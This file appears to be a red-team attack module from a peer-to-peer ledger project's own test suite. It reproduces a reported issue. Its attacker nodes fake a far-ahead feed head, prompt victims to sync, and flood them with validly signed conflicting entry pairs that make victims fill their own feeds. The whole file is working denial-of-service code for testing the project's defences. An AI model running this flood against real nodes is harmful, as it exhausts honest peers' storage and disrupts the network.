/**
 * Issue 36 item 1, a peer makes its victims fill their own feeds: each of the attacker's keys
 * (one per node, each a fresh key with provisional standing on every honest process it
 * connects to) answers a range request of the sync protocol with `--pairs` pairs (default
 * 128) of different, validly signed entries of its own feed at the same seqs, ahead of the
 * victim's head (~14.5 KiB each: a fraud-proof body against a throwaway key). Every pair is an
 * equivocation; a victim that wrote a proof for each filled its own feed, which has no quota.
 *
 * The attacker's sync server is replaced by one that lists its own head far ahead and answers
 * any range of its feed with the pairs; a heads request carrying that head as its hint makes
 * each victim pull at once (src/ledger/sync/client.ts considerHint). It reports how many range
 * answers it served, and keeps its nodes up until stopped.
 */
import { randomBytes } from 'node:crypto'
import { logger } from '@libp2p/logger'
import { multiaddr } from '@multiformats/multiaddr'
import { DOMAIN, PROTOCOL } from '../../../protocols/ids.js'
import { FraudProof, LedgerEntry } from '../../../protocols/ledger.js'
import { sleep } from '../../../src/common/index.js'
import { sealEnvelope } from '../../../src/identity/index.js'
import { sealEntry } from '../../../src/ledger/entries/entry.js'
import { serveSync, syncRequest, type SyncRequest, type SyncResponse } from '../../../src/ledger/sync/protocol.js'
import { newSigner } from '../../ledger/flood-fixtures.js'
import { numberOption, untilAborted, type Attack } from './attack.js'
import type { IdlegridNode } from '../../../src/node/index.js'
import type { PeerId } from '@libp2p/interface'
import type { ConnectionManager, Registrar } from '@libp2p/interface-internal'

/** The head each attacker key claims: far beyond anything a victim holds. */
const CLAIMED_SEQ = 1_000_000
/** Bodies of the throwaway key's two conflicting entries: the attacker's entries come to ~14.5 KiB. */
const THROWAWAY_BODY_BYTES = 6_900

export const equivocationFlood: Attack = {
  nodes: 6,
  summary: 'each of 6 fresh keys answers a sync range with --pairs pairs of different signed entries at the same seqs (~14.5 KiB each)',
  play: async ({ nodes, options, signal, log, report, go }) => {
    const pairs = numberOption(options, 'pairs', 128)
    const victims = (options.peers ?? '').split(',').filter(a => a.length > 0)
    const counts = { answers: 0, entries: 0, bytes: 0, entryBytes: 0 }
    for (const me of nodes) await serveEquivocations(me, pairs, counts)
    report({ serving: true })
    await go()
    // all at once: a victim busy with one key's pairs answers the next hint late (its pull has started by then)
    await Promise.all(nodes.flatMap(me => victims.map(async addr => { await hint(me, addr, signal).catch((err: unknown) => { log(`hint to ${addr}: ${String(err)}`) }) })))
    // every victim pulls each key once at least (a later periodic round may pull again)
    const wanted = nodes.length * victims.length
    for (let waited = 0; counts.answers < wanted && waited < 60_000 && !signal.aborted; waited += 250) {
      await sleep(250, signal).catch(() => {})
    }
    log(`${counts.answers} range answers served (${counts.entries} entries, ${(counts.bytes / 1e6).toFixed(1)} MB)`)
    report({ answered: true, ...counts, wanted })
    await untilAborted(signal)
    return { ...counts, keys: nodes.length, pairs }
  }
}

/**
 * Replaces `me`'s sync server: its own head claimed far ahead, any range of its feed answered with
 * the conflicting pairs.
 */
async function serveEquivocations (
  me: IdlegridNode,
  pairs: number,
  counts: { answers: number, entries: number, bytes: number, entryBytes: number }
): Promise<void> {
  const author = me.peerId.toMultihash().bytes
  const body = await throwawayProof(me)
  await me.libp2p.unhandle(PROTOCOL.ledgerSync)
  await serveSync(me.libp2p as unknown as Registrar, 10_000, async (request: SyncRequest): Promise<SyncResponse> => {
    if (request.heads != null) {
      return {
        heads: {
          heads: [{ author, seq: BigInt(CLAIMED_SEQ), hash: randomBytes(32) }],
          more: false,
          answersRanges: false
        }
      }
    }
    const from = Number(request.range?.fromSeq ?? 1n)
    const entries: Uint8Array[] = []
    // one ahead of what the victim asked for: every entry waits pending, and each second one is an equivocation
    for (let seq = from + 1; seq <= from + pairs; seq++) {
      for (let side = 0; side < 2; side++) {
        entries.push(
          sealEntry(me.privateKey, me.peerId, {
            seq,
            prevHash: randomBytes(32),
            time: Date.now(),
            kind: LedgerEntry.BodyKind.FRAUD_PROOF,
            body
          }).envelope
        )
      }
    }
    counts.answers++
    counts.entries += entries.length
    counts.entryBytes = entries[0]?.byteLength ?? 0
    for (const e of entries) counts.bytes += e.byteLength
    return { entries: { entries, more: false } }
  }, logger('redteam:equivocation-flood'))
}

/** A valid equivocation proof, signed by `me`, against a throwaway key: the body of every one of `me`'s entries. */
async function throwawayProof (me: IdlegridNode): Promise<Uint8Array> {
  const accused = await newSigner()
  const conflicting = [0, 1].map(() =>
    sealEntry(accused.key, accused.peerId, {
      seq: 1,
      prevHash: new Uint8Array(0),
      time: Date.now(),
      kind: LedgerEntry.BodyKind.FRAUD_PROOF,
      body: randomBytes(THROWAWAY_BODY_BYTES)
    })
  )
  const proof = FraudProof.encode({
    kind: FraudProof.Kind.EQUIVOCATION,
    accused: accused.peerId.toMultihash().bytes,
    first: conflicting[0].envelope,
    second: conflicting[1].envelope,
    evidence: [],
    createdAt: BigInt(Date.now())
  })
  return sealEnvelope(me.privateKey, me.peerId, DOMAIN.fraudProof, proof)
}

/**
 * Dials the victim at `addr` and sends a heads request whose hint claims `me`'s head far ahead: the
 * victim pulls at once.
 */
async function hint (me: IdlegridNode, addr: string, signal: AbortSignal): Promise<void> {
  const connection = await me.libp2p.dial(multiaddr(addr), { signal })
  const dialer = {
    openConnection: async (peer: PeerId, opts: { signal?: AbortSignal }) => await me.libp2p.dial(peer, opts)
  } as unknown as ConnectionManager
  // the victim grants a connected peer standing once identify has run on its side: let it
  await sleep(500, signal)
  await syncRequest(
    dialer,
    connection.remotePeer,
    {
      heads: {
        ownAuthor: me.peerId.toMultihash().bytes,
        ownSeq: BigInt(CLAIMED_SEQ),
        ownHash: randomBytes(32),
        afterAuthor: new Uint8Array(0),
        limit: 1
      }
    },
    AbortSignal.any([signal, AbortSignal.timeout(10_000)])
  )
}
